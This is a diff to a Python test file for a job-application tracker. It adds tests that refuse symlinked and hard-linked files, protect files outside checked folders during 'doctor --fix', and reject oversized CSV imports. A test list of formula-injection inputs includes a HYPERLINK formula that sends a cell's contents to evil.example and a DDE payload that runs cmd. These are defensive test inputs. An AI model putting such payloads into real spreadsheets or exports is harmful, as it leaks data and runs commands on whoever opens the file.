@@ -122,9 +122,6 @@ class Spreadsheets(Hostile):
     FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Acme")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(A1)", "'=already quoted"]
 
-    # Not yet: the sheet import merged from main (storage/import, core/sheet_*) reads cells
-    # without csv_field_text, so the ' comes back with the text. Remove once it does.
-    @unittest.expectedFailure
     def test_formulas_are_neutralised_and_come_back_on_import(self):
         for i, text in enumerate(self.FORMULAS):
             self.log("Globex", "--date", "2026-11-%02d" % (i + 1), "--note", text)
@@ -205,8 +202,6 @@ class Folders(Hostile):
                 self.assertExit(r, 0, " ".join(args))
             self.assertIn("Acme", self.ok("log", "list"))
 
-    # Not yet: one of the two links is still read (found at the deadline, not looked into).
-    @unittest.expectedFailure
     def test_a_month_file_or_config_that_is_a_link_is_refused(self):
         month = str(self.path("rejections", "2026-11.toml"))
         forged = os.path.join(self.tmp, "forged.toml")
@@ -222,7 +217,8 @@ class Folders(Hostile):
         config = str(self.path("config.toml"))
         shutil.move(config, os.path.join(self.tmp, "config.toml"))
         os.symlink(os.path.join(self.tmp, "config.toml"), config)
-        r = self.bb("log", "list")
+        # `log list` never reads config.toml; `stats` does ([signals], [week]).
+        r = self.bb("stats")
         self.assertNotEqual(r.code, 0)
         self.assertIn("symbolic link", r.err)
 
@@ -251,10 +247,50 @@ class Folders(Hostile):
         self.assertEqual(stat.S_IMODE(os.stat(victim).st_mode), 0o644)
 
     def test_doctor_is_not_stopped_by_a_folder_named_like_a_temp_file(self):
-        os.mkdir(self.path("rejections", ".2026-11.toml.tmp-abcdef"), 0o700)
-        r = self.bb("doctor")
-        self.assertIn(r.code, (0, 65), r.err)
-        self.assertTrue(os.path.isdir(self.path("rejections", ".2026-11.toml.tmp-abcdef")))
+        folder = self.path("rejections", ".2026-11.toml.tmp-abcdef")
+        os.mkdir(folder, 0o700)
+        pathlib.Path(folder, "keep").write_text("x")
+        for args in (["doctor"], ["doctor", "--fix"]):
+            r = self.bb(*args)
+            self.assertIn(r.code, (0, 65), r.err)
+            self.assertIn("left alone", r.out + r.err)
+            self.assertTrue(os.path.isfile(os.path.join(folder, "keep")), args)
+
+    def test_doctor_fix_leaves_a_hard_linked_lock_and_its_file_alone(self):
+        victim = os.path.join(self.tmp, "victim")
+        pathlib.Path(victim).write_text("x")
+        os.chmod(victim, 0o644)
+        os.unlink(self.path(".lock"))
+        os.link(victim, self.path(".lock"))
+        r = self.bb("doctor", "--fix")
+        self.assertNotEqual(r.code, 0)
+        self.assertEqual(stat.S_IMODE(os.stat(victim).st_mode), 0o644)
+        self.assertEqual(pathlib.Path(victim).read_text(), "x")
+
+    def test_doctor_never_removes_a_temp_file_outside_the_folders_it_checked(self):
+        # A temp-named file reached through a linked cache folder, and one in a folder others
+        # may write in: neither folder passes the checks, so neither file is touched.
+        elsewhere = os.path.join(self.tmp, "elsewhere")
+        os.mkdir(elsewhere, 0o700)
+        outside = os.path.join(elsewhere, ".2026-11.cache.tmp-abcdef")
+        pathlib.Path(outside).write_text("not bounceback's")
+        cache = self.path("cache", "rejections")
+        if os.path.isdir(cache):
+            shutil.rmtree(cache)
+        os.makedirs(self.path("cache"), mode=0o700, exist_ok=True)
+        os.symlink(elsewhere, cache)
+        shared = self.path("wins")
+        os.mkdir(shared, 0o777)
+        os.chmod(shared, 0o777)
+        loose = os.path.join(shared, ".2026-11.toml.tmp-abcdef")
+        pathlib.Path(loose).write_text("someone else's")
+        for args in (["doctor"], ["doctor", "--fix"]):
+            r = self.bb(*args)
+            self.assertNotEqual(r.code, 0, args)
+            self.assertNoRawControls(r, " ".join(args))
+            self.assertTrue(os.path.exists(outside), args)
+            self.assertTrue(os.path.exists(loose), args)
+        self.assertIn("symbolic link", r.out + r.err)
 
     @unittest.skipUnless(is_root(), "needs a second local user: run as root to use 'nobody'")
     def test_a_home_made_first_by_another_user_is_refused(self):
@@ -292,6 +328,23 @@ class Bounded(Hostile):
     def test_a_note_larger_than_a_text_field_holds(self):
         path = self.big("note.csv", "company,date,note\nGlobex,2026-11-21,%s\n" % ("n" * (1 << 20)))
         self.refused(["import", path], "1 MiB note")
+
+    def test_a_csv_with_a_70_mib_note(self):
+        path = self.big("note70.csv",
+                        "company,date,note\nGlobex,2026-11-21,%s\n" % ("n" * (70 << 20)))
+        r = self.refused(["import", path], "70 MiB note")
+        self.assertIn("larger than", r.err)
+
+    def test_an_import_that_would_make_a_month_larger_than_bounceback_reads(self):
+        # Each note within the 64 KiB a field holds; together more than the 16 MiB a month
+        # file may weigh: refused before anything is written, so every file written reads back.
+        note = "n" * (60 << 10)
+        rows = "".join("Co%d,2026-11-%02d,%s\n" % (i, 1 + i % 28, note) for i in range(300))
+        path = self.big("month.csv", "company,date,note\n" + rows)
+        r = self.refused(["import", path], "an 18 MB month")
+        self.assertIn("2026-11.toml", r.err)
+        self.assertIn("16 MiB", r.err)
+        self.assertIn("Acme", self.ok("log", "list"))
 
     def test_a_toml_array_of_20_mb(self):
         self.write_month("version = 1\nx = [" + "1," * (10 << 20) + "]\n")
